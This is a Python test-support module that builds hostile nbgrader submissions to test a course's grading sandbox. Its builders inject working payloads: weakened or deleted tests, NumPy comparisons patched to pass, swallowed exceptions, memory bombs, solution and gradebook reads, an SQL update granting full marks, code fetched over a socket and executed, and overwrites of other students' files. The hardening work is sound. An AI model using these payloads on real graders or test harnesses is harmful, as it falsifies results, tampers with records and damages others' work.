"""Builders of hostile and broken submissions, for the grading tests (tests/test_hostile.py).

Each builder takes a notebook (an nbformat ``NotebookNode``: the released exercise, the
reference submission or a wrong one) and returns a new notebook, or the text of a file, that
does one hostile or broken thing: weaken the tests, delete them, raise their points, loop
forever, flood the output, kill its kernel, patch NumPy, read the solutions, phone home,
write into another student's folder ... The input is never modified.

Nothing here knows the course's answers: the reference submission is made from
``solutions/`` the way nbgrader releases it (:func:`reference_submission`), and maximal
points come from the solution notebook's nbgrader metadata (:func:`max_points`).

The code the builders inject is written for exercises whose answers are functions
(``def name(...)`` in an autograded-answer cell), like every exercise of the course; a
payload is added to the *last* autograded-answer cell unless said otherwise, so it runs
after the student's functions are defined and before the tests.
"""

from __future__ import annotations

import copy
import json
import textwrap
from pathlib import Path

import nbformat

BEGIN_SOLUTION = "### BEGIN SOLUTION"
END_SOLUTION = "### END SOLUTION"
STUB_LINES = ("# YOUR CODE HERE", "raise NotImplementedError()")


# --- reading and classifying -------------------------------------------------------------


def read_notebook(path: Path) -> nbformat.NotebookNode:
    """Read a notebook as nbformat 4.

    Parameters
    ----------
    path : Path

    Returns
    -------
    NotebookNode
    """
    return nbformat.read(Path(path), as_version=4)


def notebook_text(notebook: nbformat.NotebookNode) -> str:
    """The notebook as JSON text, as Jupyter saves it.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    str
    """
    return nbformat.writes(notebook) + "\n"


def nbgrader_metadata(cell) -> dict:
    """A cell's ``metadata.nbgrader`` (an empty dict when it has none)."""
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def is_answer_cell(cell) -> bool:
    """Whether a cell is an autograded answer: an nbgrader solution cell that is not graded."""
    meta = nbgrader_metadata(cell)
    return cell.cell_type == "code" and bool(meta.get("solution")) and not meta.get("grade")


def is_test_cell(cell) -> bool:
    """Whether a cell is an autograder test: a graded nbgrader code cell."""
    meta = nbgrader_metadata(cell)
    return cell.cell_type == "code" and bool(meta.get("grade")) and not meta.get("solution")


def grade_ids_of_tests(notebook: nbformat.NotebookNode) -> list[str]:
    """The grade_ids of the autograder test cells, in notebook order."""
    return [nbgrader_metadata(c)["grade_id"] for c in notebook.cells if is_test_cell(c)]


def max_points(notebook: nbformat.NotebookNode) -> float:
    """The points a notebook's autograder tests are worth, from their nbgrader metadata.

    Parameters
    ----------
    notebook : NotebookNode
        The nbgrader source (solution) notebook.

    Returns
    -------
    float
        The sum of ``points`` over the graded cells.
    """
    return float(
        sum(
            float(nbgrader_metadata(c).get("points", 0))
            for c in notebook.cells
            if nbgrader_metadata(c).get("grade")
        )
    )


def _answer_indices(notebook) -> list[int]:
    found = [i for i, cell in enumerate(notebook.cells) if is_answer_cell(cell)]
    if not found:
        raise ValueError("the notebook has no autograded-answer cell")
    return found


def _test_indices(notebook) -> list[int]:
    found = [i for i, cell in enumerate(notebook.cells) if is_test_cell(cell)]
    if not found:
        raise ValueError("the notebook has no autograder test cell")
    return found


# --- honest submissions ------------------------------------------------------------------


def strip_solution_markers(source: str) -> str:
    """Remove the ``### BEGIN SOLUTION`` / ``### END SOLUTION`` lines from a cell's source."""
    kept = [
        line for line in source.splitlines() if line.strip() not in (BEGIN_SOLUTION, END_SOLUTION)
    ]
    return "\n".join(kept)


def reference_submission(
    exercise: nbformat.NotebookNode, solution: nbformat.NotebookNode
) -> nbformat.NotebookNode:
    """The released exercise with every autograded answer filled in from the solution.

    Each answer cell of ``exercise`` gets the source of the ``solution`` cell with the same
    nbgrader ``grade_id``, without the solution markers: what a student who found the
    reference answers would hand in. Test cells stay as released (no hidden tests).

    Parameters
    ----------
    exercise : NotebookNode
        The released notebook (``exercises/``).
    solution : NotebookNode
        The nbgrader source notebook (``solutions/``).

    Returns
    -------
    NotebookNode
    """
    answers = {
        nbgrader_metadata(cell)["grade_id"]: cell.source
        for cell in solution.cells
        if is_answer_cell(cell)
    }
    notebook = copy.deepcopy(exercise)
    for index in _answer_indices(notebook):
        cell = notebook.cells[index]
        cell.source = strip_solution_markers(answers[nbgrader_metadata(cell)["grade_id"]])
    return notebook


def with_answer_body(notebook: nbformat.NotebookNode, body: str) -> nbformat.NotebookNode:
    """Replace the stub (``# YOUR CODE HERE`` / ``raise NotImplementedError()``) by ``body``.

    Parameters
    ----------
    notebook : NotebookNode
        A released exercise whose answer cells still hold the stub.
    body : str
        The code to put in its place, unindented; it takes the stub's indentation.

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for index in _answer_indices(notebook):
        cell = notebook.cells[index]
        lines = cell.source.splitlines()
        starts = [i for i, line in enumerate(lines) if line.strip() == STUB_LINES[0]]
        if not starts:
            raise ValueError(f"no '{STUB_LINES[0]}' in answer cell {index}")
        start = starts[0]
        end = start + 1
        if end < len(lines) and lines[end].strip() == STUB_LINES[1]:
            end += 1
        indent = lines[start][: len(lines[start]) - len(lines[start].lstrip())]
        lines[start:end] = textwrap.indent(textwrap.dedent(body).strip("\n"), indent).splitlines()
        cell.source = "\n".join(lines)
    return notebook


def append_code(notebook: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """Add top-level ``code`` at the end of the last autograded-answer cell.

    Parameters
    ----------
    notebook : NotebookNode
    code : str

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    cell = notebook.cells[_answer_indices(notebook)[-1]]
    cell.source = cell.source.rstrip("\n") + "\n\n\n" + textwrap.dedent(code).strip("\n")
    return notebook


def prepend_code(notebook: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """Add top-level ``code`` at the start of the first autograded-answer cell.

    Parameters
    ----------
    notebook : NotebookNode
    code : str

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    cell = notebook.cells[_answer_indices(notebook)[0]]
    cell.source = textwrap.dedent(code).strip("\n") + "\n\n\n" + cell.source
    return notebook


# --- tampering with the tests and the metadata ---------------------------------------------


def weaken_tests(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Replace every test cell's source with ``assert True`` (metadata kept).

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for index in _test_indices(notebook):
        notebook.cells[index].source = '"""Check nothing at all."""\nassert True'
    return notebook


def replace_tests(notebook: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """Replace every test cell's source with ``source`` (metadata kept).

    Parameters
    ----------
    notebook : NotebookNode
    source : str
        E.g. code that defines a working answer, hoping it runs in place of the test.

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for index in _test_indices(notebook):
        notebook.cells[index].source = source
    return notebook


def delete_tests(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Remove every test cell.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    tests = set(_test_indices(notebook))
    notebook.cells = [cell for i, cell in enumerate(notebook.cells) if i not in tests]
    return notebook


def duplicate_cells(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Put a copy of every cell (metadata and ids included, ids made unique) after it.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    cells = []
    for cell in notebook.cells:
        twin = copy.deepcopy(cell)
        if "id" in twin:
            twin["id"] = f"{cell['id']}-twin"[:64]
        cells += [cell, twin]
    notebook.cells = cells
    return notebook


def raise_points(notebook: nbformat.NotebookNode, factor: float = 100) -> nbformat.NotebookNode:
    """Multiply the ``points`` of every graded cell by ``factor`` in the cell metadata.

    Parameters
    ----------
    notebook : NotebookNode
    factor : float

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        meta = nbgrader_metadata(cell)
        if meta.get("grade"):
            meta["points"] = meta.get("points", 0) * factor
    return notebook


def tests_to_markdown(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Turn every test cell into a markdown cell (metadata kept), so it never runs.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for index in _test_indices(notebook):
        old = notebook.cells[index]
        new = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
        if "id" in old:
            new["id"] = old["id"]
        notebook.cells[index] = new
    return notebook


def strip_nbgrader_metadata(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Remove the nbgrader metadata of every cell, as copying the cells to a new notebook does.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
        cell.metadata.pop("deletable", None)
        cell.metadata.pop("editable", None)
    return notebook


# --- broken files --------------------------------------------------------------------------


def truncated_json(notebook: nbformat.NotebookNode, keep: float = 0.5) -> str:
    """The notebook's JSON text cut off after a fraction ``keep`` of its characters.

    Parameters
    ----------
    notebook : NotebookNode
    keep : float
        Between 0 and 1.

    Returns
    -------
    str
        Not valid JSON.
    """
    text = notebook_text(notebook)
    cut = text[: int(len(text) * keep)]
    try:
        json.loads(cut)
    except json.JSONDecodeError:
        return cut
    raise ValueError("cutting the notebook left valid JSON; choose another fraction")


# --- runaway code ------------------------------------------------------------------------


def add_infinite_loop(
    notebook: nbformat.NotebookNode, interruptible: bool = True
) -> nbformat.NotebookNode:
    """End the last answer cell with a loop that never ends.

    Parameters
    ----------
    notebook : NotebookNode
    interruptible : bool
        If False, SIGINT is ignored first, so nbgrader's interrupt when the cell times out
        does not stop the loop: only killing the kernel does.

    Returns
    -------
    NotebookNode

    Notes
    -----
    Both loops sleep. What the grader faces is a cell that never ends; Python handles
    SIGINT in a spinning ``while True: pass`` as in a sleep, so spinning would test
    nothing more and only take a core from the rest of the run until the timeout.
    """
    loop = "import time\n\nwhile True:\n    time.sleep(0.1)\n"
    if interruptible:
        return append_code(notebook, loop)
    ignore = "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    return append_code(notebook, ignore + loop)


def add_print_flood(notebook: nbformat.NotebookNode, lines: int) -> nbformat.NotebookNode:
    """End the last answer cell by printing ``lines`` numbered lines to stdout.

    Written in blocks of 100,000 lines (one ``print`` per line would take the kernel
    longer than a cell may run, and a flood must arrive, not time out).

    Parameters
    ----------
    notebook : NotebookNode
    lines : int
        E.g. three million.

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import sys
    for _start in range(0, {int(lines)}, 100_000):
        _stop = min(_start + 100_000, {int(lines)})
        sys.stdout.write("".join(f"line {{_i}}\\n" for _i in range(_start, _stop)))
        sys.stdout.flush()
    """
    return append_code(notebook, code)


def add_long_line(notebook: nbformat.NotebookNode, megabytes: int) -> nbformat.NotebookNode:
    """End the last answer cell by writing ``megabytes`` MiB to stdout without a newline.

    One line, so a limit on the number of output lines does not cut it.

    Parameters
    ----------
    notebook : NotebookNode
    megabytes : int

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import sys
    for _chunk in range({int(megabytes)}):
        sys.stdout.write("x" * 2**20)
        sys.stdout.flush()
    """
    return append_code(notebook, code)


def add_huge_image(notebook: nbformat.NotebookNode, megabytes: int) -> nbformat.NotebookNode:
    """End the last answer cell by displaying a PNG of ``megabytes`` MiB (random bytes).

    Parameters
    ----------
    notebook : NotebookNode
    megabytes : int

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import base64
    import os

    from IPython.display import display

    _blob = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom({int(megabytes)} * 2**20))
    display({{"image/png": _blob.decode("ascii")}}, raw=True)
    del _blob
    """
    return append_code(notebook, code)


def add_memory_bomb(notebook: nbformat.NotebookNode, nbytes: int) -> nbformat.NotebookNode:
    """Start the first answer cell by taking ``nbytes`` of memory, before any answer.

    One anonymous memory map of ``nbytes`` (address space, as ``RLIMIT_AS`` counts it), of
    which the first GiB is written (resident memory, as a cgroup counts it); released again
    at the end of the block. Bounded, so that without a memory cap the machine survives the
    test: choose ``nbytes`` above the grading kernel's cap and below the machine's free
    memory. Writing all of it would be more faithful but takes half a minute where page
    faults are slow (a VM here: ~5 s per GiB).

    Parameters
    ----------
    notebook : NotebookNode
    nbytes : int

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import mmap

    _hog = mmap.mmap(-1, {int(nbytes)})
    _block = b"\\x01" * 2**24
    for _start in range(0, min(len(_hog), 2**30), len(_block)):
        _hog[_start : _start + len(_block)] = _block[: len(_hog) - _start]
    print("took", len(_hog), "bytes")
    _hog.close()
    del _hog, _block
    """
    return prepend_code(notebook, code)


def add_os_exit(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """End the last answer cell with ``os._exit(1)``: the kernel process ends at once."""
    return append_code(notebook, "import os\nos._exit(1)\n")


def add_sys_exit(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """End the last answer cell with ``sys.exit()``, hoping grading stops there."""
    return append_code(notebook, "import sys\nsys.exit()\n")


# --- faking test results ---------------------------------------------------------------------


def hide_tracebacks(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Silence IPython's traceback display and ``sys.excepthook``, so failures show nothing.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    code = """
    import sys

    get_ipython().showtraceback = lambda *args, **kwargs: None
    get_ipython().showsyntaxerror = lambda *args, **kwargs: None
    sys.excepthook = lambda *args, **kwargs: None
    """
    return append_code(notebook, code)


def swallow_exceptions(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Register an IPython AST transformer that wraps every later cell in ``try/except``.

    Every failing assertion in a test cell is then caught inside the cell: the cell "passes".

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    code = """
    import ast


    class _Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            handler = ast.ExceptHandler(
                type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()]
            )
            node.body = [
                ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])
            ]
            return ast.fix_missing_locations(node)


    get_ipython().ast_transformers.append(_Swallow())
    """
    return append_code(notebook, code)


def patch_numpy(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Monkeypatch NumPy's comparison helpers so that every comparison passes.

    ``np.allclose``, ``np.array_equal``, ``np.isclose``, ``np.testing.assert_allclose`` and
    ``np.testing.assert_array_equal`` are replaced in the kernel the tests run in.

    Parameters
    ----------
    notebook : NotebookNode

    Returns
    -------
    NotebookNode
    """
    code = """
    import numpy

    numpy.allclose = lambda *args, **kwargs: True
    numpy.array_equal = lambda *args, **kwargs: True
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_equal = lambda *args, **kwargs: None
    """
    return append_code(notebook, code)


def fake_arrays(notebook: nbformat.NotebookNode, function: str) -> nbformat.NotebookNode:
    """Make ``function`` return an ndarray subclass that lies to comparisons.

    Its ``min()`` is 0, its ``max()`` is 1, and ``np.allclose``, ``np.isclose`` and
    ``np.array_equal`` called on it answer "equal" (through ``__array_function__``), whatever
    the values are.

    Parameters
    ----------
    notebook : NotebookNode
    function : str
        The name of the answer function to wrap.

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import numpy


    class _Liar(numpy.ndarray):
        def min(self, *args, **kwargs):
            return self.dtype.type(0)

        def max(self, *args, **kwargs):
            return self.dtype.type(1)

        def __array_function__(self, func, types, args, kwargs):
            if func in (numpy.allclose, numpy.array_equal):
                return True
            if func is numpy.isclose:
                return numpy.ones(numpy.shape(args[0]), dtype=bool)
            return super().__array_function__(func, types, args, kwargs)


    _honest_{function} = {function}


    def {function}(*args, **kwargs):
        return numpy.asarray(_honest_{function}(*args, **kwargs)).view(_Liar)
    """
    return append_code(notebook, code)


# --- reaching out of the kernel ------------------------------------------------------------


def read_solutions(
    notebook: nbformat.NotebookNode, out: Path, repo: Path, assignment: str, name: str
) -> nbformat.NotebookNode:
    """Look for the reference solution and the gradebook; execute any solution found.

    Tries ``OUT/solutions/...``, ``REPO/solutions/...`` (absolute paths) and
    ``../solutions/...`` to ``../../../../../solutions/...`` from the kernel's working folder;
    for every readable solution notebook it prints ``READ <path>`` and executes its solution
    cells (so the answer functions become the reference's), then ``USED <path>``. It also
    prints ``READ <path> <n> bytes`` for a readable ``gradebook.db`` (in ``OUT`` or any
    parent of the working folder).

    Parameters
    ----------
    notebook : NotebookNode
    out : Path
        The grading run's output folder.
    repo : Path
        The course repository.
    assignment, name : str
        The assignment folder and the notebook's name (without ``.ipynb``).

    Returns
    -------
    NotebookNode
    """
    relative = f"solutions/{assignment}/{name}.ipynb"
    code = f"""
    import json
    import pathlib

    _here = pathlib.Path.cwd()
    _found = [pathlib.Path({str(out)!r}) / {relative!r}, pathlib.Path({str(repo)!r}) / {relative!r}]
    _found += [_here / ("../" * _depth) / {relative!r} for _depth in range(1, 6)]
    for _path in _found:
        try:
            _cells = json.loads(_path.read_text())["cells"]
        except Exception as _error:
            print("cannot read", _path, type(_error).__name__)
            continue
        print("READ", _path)
        for _cell in _cells:
            _source = "".join(_cell["source"])
            if {BEGIN_SOLUTION!r} in _source:
                exec(_source, globals())
                print("USED", _path)
        break
    for _path in [pathlib.Path({str(out)!r}) / "gradebook.db"] + [
        _parent / "gradebook.db" for _parent in _here.parents
    ]:
        try:
            print("READ", _path, len(_path.read_bytes()), "bytes")
        except Exception as _error:
            print("cannot read", _path, type(_error).__name__)
    """
    return append_code(notebook, code)


def tamper_gradebook(
    notebook: nbformat.NotebookNode, out: Path, student: str
) -> nbformat.NotebookNode:
    """Give oneself full marks in the gradebook while one's own notebook runs.

    nbgrader creates the submission's grade rows before executing it and keeps a
    ``manual_score`` over any ``auto_score``: the payload sets ``manual_score`` to the
    maximum for every grade of ``student``, then prints ``WROTE <path>``.

    Parameters
    ----------
    notebook : NotebookNode
    out : Path
        The grading run's output folder (``OUT/gradebook.db``).
    student : str
        The id of the student whose grades to raise.

    Returns
    -------
    NotebookNode
    """
    sql = (
        "UPDATE grade SET manual_score = "
        "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
        "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
        "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
        "WHERE submitted_assignment.student_id = ?)"
    )
    code = f"""
    import pathlib
    import sqlite3

    for _path in [pathlib.Path({str(out)!r}) / "gradebook.db"] + [
        _parent / "gradebook.db" for _parent in pathlib.Path.cwd().parents
    ]:
        try:
            with sqlite3.connect(f"file:{{_path}}?mode=rw", uri=True, timeout=10) as _db:
                _changed = _db.execute({sql!r}, ({student!r},)).rowcount
            print("WROTE", _path, _changed, "grades")
            break
        except Exception as _error:
            print("cannot write", _path, type(_error).__name__, _error)
    """
    return append_code(notebook, code)


def connect_loopback(notebook: nbformat.NotebookNode, port: int) -> nbformat.NotebookNode:
    """Fetch code from a TCP server on 127.0.0.1 and execute it.

    The payload sends a line, reads until the server closes, executes what it received
    (e.g. a working answer served by the test) and prints ``CONNECTED``; without a network
    it prints why and the student's own answer stays.

    Parameters
    ----------
    notebook : NotebookNode
    port : int

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import socket

    try:
        with socket.create_connection(("127.0.0.1", {int(port)}), timeout=5) as _conn:
            _conn.sendall(b"hello from a grading kernel\\n")
            _received = b""
            while _chunk := _conn.recv(65536):
                _received += _chunk
        exec(_received.decode(), globals())
        print("CONNECTED")
    except OSError as _error:
        print("no connection:", type(_error).__name__, _error)
    """
    return append_code(notebook, code)


def write_elsewhere(
    notebook: nbformat.NotebookNode,
    targets: list[Path],
    sabotage: list[Path],
    sabotage_text: str,
) -> nbformat.NotebookNode:
    """Write marker files to ``targets`` and overwrite the files ``sabotage``.

    For every success it prints ``WROTE <path>``; failures are printed and ignored.

    Parameters
    ----------
    notebook : NotebookNode
    targets : list of Path
        Files to create (e.g. in another student's folder, the repository, the host's /tmp).
    sabotage : list of Path
        Existing files to replace with ``sabotage_text`` (e.g. another student's notebook).
    sabotage_text : str

    Returns
    -------
    NotebookNode
    """
    code = f"""
    import pathlib

    for _path in {[str(p) for p in targets]!r}:
        try:
            pathlib.Path(_path).parent.mkdir(parents=True, exist_ok=True)
            pathlib.Path(_path).write_text("written by a student's notebook\\n")
            print("WROTE", _path)
        except Exception as _error:
            print("cannot write", _path, type(_error).__name__)
    for _path in {[str(p) for p in sabotage]!r}:
        try:
            pathlib.Path(_path).write_text({sabotage_text!r})
            print("WROTE", _path)
        except Exception as _error:
            print("cannot write", _path, type(_error).__name__)
    """
    return append_code(notebook, code)
